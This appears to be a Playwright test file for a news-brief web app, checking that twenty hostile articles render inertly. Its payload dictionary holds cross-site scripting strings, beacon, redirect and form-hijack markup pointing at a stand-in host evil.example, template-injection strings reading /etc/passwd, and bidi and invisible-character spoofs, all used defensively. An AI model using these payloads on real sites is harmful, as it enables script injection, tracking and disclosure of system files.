"""Twenty articles that would like to be more than text: nothing runs, asks or hides."""

from __future__ import annotations

import httpx
from playwright.sync_api import Page

from tests.api.later import LATER
from tests.desk.doing import ONE

MARK = "window.owned = 1"
TEXTS = {
    "script": f"<script>{MARK}</script>",
    "script closed": f"</title></textarea></style></script><script>{MARK}</script>",
    "image": f"<img src=x onerror='{MARK}'>",
    "svg": f"<svg/onload='{MARK}'><svg><animate onbegin='{MARK}' attributeName=x dur=1s>",
    "attribute": f'" onmouseover="{MARK}" autofocus onfocus="{MARK}" x="',
    "attribute 2": f"' onpointerover='{MARK}' style='position:fixed;inset:0'",
    "link": f"<a href='javascript:{MARK}'>reuters.com</a> javascript:{MARK}",
    "frame": f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    "style": "<style>* { display: none !important }</style>",
    "import": "<link rel=stylesheet href='http://evil.example/x.css'>",
    "beacon": "<img src='http://evil.example/beacon.png'> <video src=http://evil.example/v>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "base": "<base href='http://evil.example/'>",
    "form": "<form action='http://evil.example/'><button>Approve</button></form>",
    "htmx": f"<div hx-get='http://evil.example/' hx-trigger=load hx-on:load='{MARK}'></div>",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${{7*7}} #{7*7}",
    "entities": f"&lt;script&gt;{MARK}&lt;/script&gt; &#60;img src=x onerror={MARK}&#62;",
    "comment": f"<!-- --><script>{MARK}</script> <![CDATA[<script>{MARK}</script>]]>",
    "bidi": "\u202etxt.exe \u2066hidden\u2069 \u200f\u202dover\u202c \u2067",
    "invisible": "pay\u200bpal \ufeffand \u00adsoft\u2060joined a\u0301\u0301\u0301 \U000e0041",
}


def article(name: str, number: int) -> dict[str, str]:
    hostile = TEXTS[name]
    text = f"{ONE} {hostile} said the {number}th witness of the fire.\n\nHe added: {hostile}"
    return {"id": name, "source": hostile, "title": hostile, "text": text}


def test_twenty_hostile_articles_execute_nothing(page: Page, desk: str) -> None:
    """In texts, titles, outlets; in the brief, the cards, the matrix, the reviews."""
    assert len(TEXTS) == 20
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
    request = {"articles": [article(name, n) for n, name in enumerate(TEXTS, start=1)]}
    posted = httpx.post(f"{desk}/v1/briefs", json=request, headers=LATER)
    assert posted.status_code == 202, posted.text
    page.goto(f"{desk}{posted.headers['location'].removeprefix('/v1')}")
    page.wait_for_selector("#headline")
    for number in range(1, 21):
        page.evaluate(f"document.querySelector('#s{number}').open = true")
    for one in page.locator(".text .s, .card, .matrix tbody tr").all()[:40]:
        one.hover(force=True)
    page.fill("#by", TEXTS["attribute"])
    page.fill("#reason", TEXTS["script closed"])
    page.click("button.reject")
    page.wait_for_selector(".verdicts")
    assert page.evaluate("window.owned") is None
    assert [url for url in asked if not url.startswith(desk)] == []
    assert page.locator("main :is(script, style, iframe, svg, img, video, base, link)").count() == 0
    texts = page.evaluate(
        """[...document.querySelectorAll("#articles details")].map((one) =>
            [...one.querySelectorAll(".part")].map((part) => part.textContent).join(""))"""
    )
    assert texts == [one["text"] for one in request["articles"]]


def test_what_turns_the_direction_of_text_ends_with_its_own(page: Page, desk: str) -> None:
    """Beside a hostile outlet our own words stand where they belong."""
    request = {"articles": [article("bidi", 1), article("script", 2)]}
    posted = httpx.post(f"{desk}/v1/briefs", json=request, headers=LATER)
    page.goto(f"{desk}{posted.headers['location'].removeprefix('/v1')}")
    page.wait_for_selector("#headline")
    shown = page.evaluate("document.querySelector('main').innerHTML")
    outside = page.evaluate(
        """(() => { const main = document.querySelector("main").cloneNode(true);
            for (const one of main.querySelectorAll(".part")) one.remove();
            return main.textContent; })()"""
    )
    assert "\u202e" in shown
    assert not set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069") & set(outside)
    isolated = page.evaluate(
        """[...document.querySelectorAll(".part, bdi, [dir=auto]")].every((one) =>
            /isolate|plaintext/.test(getComputedStyle(one).unicodeBidi)
            || getComputedStyle(one).display === "block")"""
    )
    assert isolated
